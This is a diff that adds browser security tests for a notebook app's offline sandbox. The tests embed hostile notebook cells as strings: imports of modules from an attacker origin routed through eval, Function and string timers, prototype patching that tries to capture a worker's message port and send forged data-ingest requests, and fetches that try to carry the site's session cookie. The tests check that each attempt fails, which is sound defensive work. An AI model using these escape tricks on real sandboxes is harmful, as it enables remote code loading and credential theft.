@@ -212,6 +212,104 @@ describe('3: "Run without network" holds for SQL', () => {
   });
 });
 
+describe('3: "Run without network" holds for modules', () => {
+  it('import() of another origin, also through eval, Function and string timers, makes no request', async () => {
+    clearAttackerLog();
+    attacker.serve('/mod.js', "fetch('/module-ran'); export default 1;", 'text/javascript');
+    const a = attacker.origin;
+    const cell = (code: string) => ['```js', code, '```', ''].join('\n');
+    const source = [
+      '# Module leaks',
+      '',
+      cell(`const direct = await import("${a}/mod.js?via=import")`),
+      cell(`import leaked from "${a}/mod.js?via=static"`),
+      cell(`const viaEval = await eval('import("${a}/mod.js?via=eval")')`),
+      cell(`const viaFunction = await Function('return import("${a}/mod.js?via=function")')()`),
+      cell(`const viaCtor = await (async () => {}).constructor('return import("${a}/mod.js?via=ctor")')()`),
+      cell(`setTimeout('import("${a}/mod.js?via=timer")', 0)`),
+      cell('Plot.plot({width: 200, height: 100, marks: [Plot.dot([1, 2, 3], {x: d => d, y: d => d})]})'),
+      cell('`modules done`'),
+    ].join('\n');
+    const o = await openShared(source, 'Run without network access');
+    await o.page.getByText('modules done').waitFor({ timeout: 120_000 });
+    await expect.poll(() => o.page.locator('.cell-error').count(), { timeout: 60_000 }).toBe(6);
+    // Plot (the runtime's own same-origin chunk) still loads and draws.
+    await o.page.locator('.figure-output svg').first().waitFor({ timeout: 60_000 });
+    await expectNothingLeft(o);
+  });
+});
+
+describe('5: the data worker’s port cannot be captured and driven', () => {
+  it('patching the messaging prototypes captures nothing, and forged calls reach nobody', async () => {
+    clearAttackerLog();
+    const a = attacker.origin;
+    const source = [
+      '# Port capture',
+      '',
+      '```js',
+      'const captured = [];',
+      'const originalPost = MessagePort.prototype.postMessage;',
+      'try { MessagePort.prototype.postMessage = function (...args) { captured.push(this); return originalPost.apply(this, args); }; } catch {}',
+      'try { Object.defineProperty(MessageEvent.prototype, "data", { get() { captured.push(this.target); return undefined; } }); } catch {}',
+      'try { EventTarget.prototype.addEventListener = function () { captured.push(this); }; } catch {}',
+      'const patched = true',
+      '```',
+      '',
+      '```sql probe',
+      'SELECT ${patched} AS patched, 1 AS one',
+      '```',
+      '',
+      '```js',
+      'probe;',
+      'const forged = [',
+      `  {id: "f1", type: "APPLY", path: ["ingestUrl"], argumentList: [{type: "RAW", value: {url: "${a}/forged.csv", table: "forged"}}]},`,
+      `  {kind: "brook:ingestUrl", id: 2, request: {url: "${a}/forged2.csv", table: "forged2"}},`,
+      '];',
+      'for (const port of captured) for (const message of forged) { try { port.postMessage(message); } catch {} }',
+      'display(`captured ${captured.length}`);',
+      '```',
+      '',
+    ].join('\n');
+    const o = await openShared(source, 'Run without network access');
+    await o.page.getByText(/^captured \d+$/).waitFor({ timeout: 120_000 });
+    expect(await o.page.getByText(/^captured \d+$/).textContent()).toBe('captured 0');
+    await expectNothingLeft(o);
+  });
+});
+
+describe('4: notebook code does not act with the site’s credentials', () => {
+  it('fetch from a cell sends no cookie, not even an HttpOnly one', async () => {
+    const o = await attackedPage();
+    const origin = new URL(site.url).origin;
+    await o.context.addCookies([{ name: 'session', value: 'reader-secret', url: origin, httpOnly: true }]);
+    const cookies: string[] = [];
+    o.context.on('request', (request) => {
+      if (request.url().includes('whoami')) void request.allHeaders().then((h) => cookies.push(h.cookie ?? 'none'));
+    });
+    const source = [
+      '# Whoami',
+      '',
+      '```js',
+      `const r1 = await fetch("${site.url}whoami?plain");`,
+      `const r2 = await fetch("${site.url}whoami?include", {credentials: "include"});`,
+      `const r3 = await fetch(new Request("${site.url}whoami?request", {credentials: "include"}));`,
+      '`fetched ${r1.status} ${r2.status} ${r3.status}`',
+      '```',
+      '',
+    ].join('\n');
+    await o.page.goto(`${site.url}#/s/${encodeShare({ source, inputs: {} })}`);
+    await o.page.getByRole('button', { name: 'Run', exact: true }).click();
+    await o.page.getByText(/^fetched /).waitFor({ timeout: 120_000 });
+    await expect.poll(() => cookies.length, { timeout: 10_000 }).toBe(3);
+    expect(cookies).toEqual(['none', 'none', 'none']);
+    // The page's own requests still carry the cookie (the check above can see one).
+    const pageCookie = await o.page.evaluate(async (url) => (await fetch(url)).status, `${site.url}whoami?page`);
+    expect(pageCookie).toBeGreaterThan(0);
+    await expect.poll(() => cookies.length, { timeout: 10_000 }).toBe(4);
+    expect(cookies[3]).toContain('reader-secret');
+  });
+});
+
 /** Page classes whose CSS covers the screen or draws the page's own dialogs. */
 const PAGE_CLASSES = ['drop-overlay', 'trust-card', 'trust-prompt', 'page-message', 'app-header', 'button', 'button-primary'];
 
